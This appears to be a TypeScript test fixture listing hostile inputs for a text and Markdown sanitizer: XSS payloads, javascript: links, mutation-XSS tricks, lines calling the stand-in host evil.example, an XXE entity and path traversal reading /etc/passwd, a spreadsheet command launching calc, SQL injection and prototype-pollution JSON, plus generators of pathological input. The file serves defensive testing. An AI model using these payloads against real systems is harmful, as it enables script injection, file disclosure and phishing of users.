/** Hostile text of the well-known kinds, in lines of our own: each goes through every door by which text comes in. */

export interface Payload {
  name: string;
  text: string;
}

const scripts: Readonly<Record<string, string>> = {
  'a script': '甲<script>alert(1)</script>乙',
  'a script from elsewhere': '"><script src=//evil.example/a.js></script>',
  'a script behind what swallows text': '</title></textarea></style></script><img src=x onerror=alert(1)>',
  'handlers, quoted in three ways': `<img src=x onerror="alert(1)" alt='" onload="alert(2)'><b onclick=alert(3)>甲</b>`,
  'elements that act by themselves': '<details open ontoggle=alert(1)>甲</details><input autofocus onfocus=alert(1)>',
  'media with handlers': '<video><source onerror=alert(1) src=x></video><audio src="javascript:alert(1)"></audio>',
  'a page in a page': '<iframe srcdoc="<script>alert(1)</script>"></iframe><frameset onload=alert(1)>',
  'plug-ins': '<object data="data:text/html;base64,PHNjcmlwdD4="></object><embed src="javascript:alert(1)">',
  'what changes the page around it':
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  'style sheets': `<link rel=stylesheet href=javascript:alert(1)><style>@import 'https://evil.example/a.css';*{color:expression(alert(1))}</style>`,
  'styles that act':
    '<p style="width:expression(alert(1));background:url(javascript:alert(1));-moz-binding:url(//evil.example)">甲</p>',
  'a style over everything':
    '<div style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example">登录</a></div>',
  'a form to elsewhere':
    '<form action="https://evil.example"><button formaction="javascript:alert(1)">登录</button></form>',
};

const addresses: Readonly<Record<string, string>> = {
  'a javascript address': '<a href="javascript:alert(1)">甲</a>',
  'one written with entities and tabs':
    '<a href="&#106;ava\tscript&colon;alert(1)">甲</a><a href=" java&#10;script:alert(1)">乙</a>',
  'one behind a control character': '<a href="\u0001javascript:alert(1)">甲</a><a href="JaVaScRiPt:alert(1)">乙</a>',
  'data and vbscript addresses':
    '<a href="data:text/html,<script>alert(1)</script>">甲</a><a href="vbscript:alert">乙</a>',
  'pictures that are pages':
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src=x srcset="javascript:alert(1) 2x">',
  'an address without its scheme': '<a href="//evil.example/">甲</a><a href="/\\evil.example">乙</a>',
  'Markdown links':
    '[甲](javascript:alert(1)) ![乙](x"onerror="alert(1)) <javascript:alert(1)> [丙]\n\n[丙]: javascript:alert(1) "x"',
  'Markdown around markup': '`<img src=x onerror=alert(1)>` **<script>alert(1)</script>** [a](<javascript:alert(1)>)',
};

const mutations: Readonly<Record<string, string>> = {
  'a drawing that acts':
    '<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /><script>alert(1)</script></svg>',
  'a link in a drawing':
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>点</text></a><use href="data:image/svg+xml,x#x"/></svg>',
  'HTML in a drawing':
    '<svg><foreignObject><body onload=alert(1)><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  'a style that ends in another tree': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'a formula that becomes markup':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'forms that nest on the second reading':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'text that is markup without scripts': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a template': '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  'comments that end early':
    '<!--><img src=x onerror=alert(1)>--> <!-- --!><script>alert(1)</script> --> <![CDATA[<img src=x onerror=alert(1)>]]>',
  'processing instructions': '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 7*191 ?>',
  'tags that never end': '<a href="x" <img src=x onerror=alert(1) <b onclick=alert(1)',
  'markup as text, once and twice': '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;',
  'wide signs': '＜script＞alert(1)＜/script＞ \u02c2img src=x onerror=alert(1)\u02c3',
};

const others: Readonly<Record<string, string>> = {
  'Handlebars, three times braced': `{{{constructor.constructor('return 7*191')()}}} {{#with "s" as |x|}}{{x.sub.apply}}{{/with}}`,
  'other templates': '${7*191} <%= 7*191 %> #{7*191} {{7*191}} {% raw %} @(7*191)',
  'formulas of spreadsheets': '=HYPERLINK("https://evil.example","点")',
  'commands of spreadsheets': `@SUM(1+1)*cmd|' /C calc'!A0`,
  'an outside entity': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  'ends of XML': ']]> <![CDATA[ &#x0; &#xD800; &nbsp; <?xml version="1.0"?> --> "\'',
  'control characters': '甲\u0000\u0008\u001b[31m乙\u000b\u007f\ufffe\uffff丙',
  'half a character': '甲\ud800乙\udc00',
  'text that is turned round': '年报\u202efdp.exe\u202c 甲\u2066乙 \u202d丙',
  'signs that nobody sees': '甲\u200b\u200d\ufeff\u2060乙\u00ad丙',
  'lines in a line': '甲\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>\u2028乙',
  'names of every object': '__proto__ constructor prototype toString hasOwnProperty',
  'JSON for a prototype': '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  'a query': `{"$gt":""} '; DROP TABLE releases; -- $where`,
  'ways out of a folder': '../../../../etc/passwd ..\\..\\a %2e%2e%2f file:///etc/passwd',
};

export const payloads: readonly Payload[] = Object.entries({ ...scripts, ...addresses, ...mutations, ...others }).map(
  ([name, text]) => ({ name, text }),
);

/** Text that grows: its length is given, and the work for it is to grow no faster. */
export const growing: Readonly<Record<string, (length: number) => string>> = {
  'one long word': (n) => 'A'.repeat(n),
  'Chinese without an end': (n) => '政'.repeat(n),
  divisions: (n) => '<div>'.repeat(n / 5),
  'marks inside one another': (n) => '<b><i><u>'.repeat(n / 9),
  'marks that never end, with words': (n) => '<a>甲<b><i><u><p>'.repeat(n / 16),
  'tables in cells': (n) => '<table><tr><td>'.repeat(n / 15),
  'cells outside tables': (n) => '<table><td>甲</table>'.repeat(n / 20),
  attributes: (n) => `<p ${'a '.repeat(n / 2)}>甲`,
  'brackets that open': (n) => '['.repeat(n),
  'brackets of pictures': (n) => '![a]('.repeat(n / 5),
  asterisks: (n) => '*a **b '.repeat(n / 7),
  'asterisks beside Chinese': (n) => '**甲'.repeat(n / 3),
  'quotations in quotations': (n) => '> '.repeat(n / 2),
  'lists in lists': (n) => '- '.repeat(n / 2),
  backticks: (n) => Array.from({ length: Math.sqrt(n) }, (_, k) => '`'.repeat(k)).join(' '),
  'rows of a table': (n) => `|a|b|\n|-|-|\n${'|1|2|3|\n'.repeat(n / 8)}`,
  'tags that never end': (n) => '<a '.repeat(n / 3),
  'comments that never end': (n) => '<!--'.repeat(n / 4),
  entities: (n) => '&lt;&#x0;&amp'.repeat(n / 13),
  'footnotes that nobody refers to': (n) => Array.from({ length: n / 9 }, (_, k) => `[^${k}]: a`).join('\n\n'),
  'references to footnotes': (n) => `${'[^1]'.repeat(n / 4)}\n\n[^1]: a`,
  formulas: (n) => '$x$'.repeat(n / 3),
  'formulas in formulas': (n) => `$${'\\frac{'.repeat(n / 6)}`,
  addresses: (n) => 'https://a.cn '.repeat(n / 13),
  'signs of emphasis with blanks': (n) => '_ * ~~ == '.repeat(n / 10),
  'turned text': (n) => '\u202e甲'.repeat(n / 2),
};
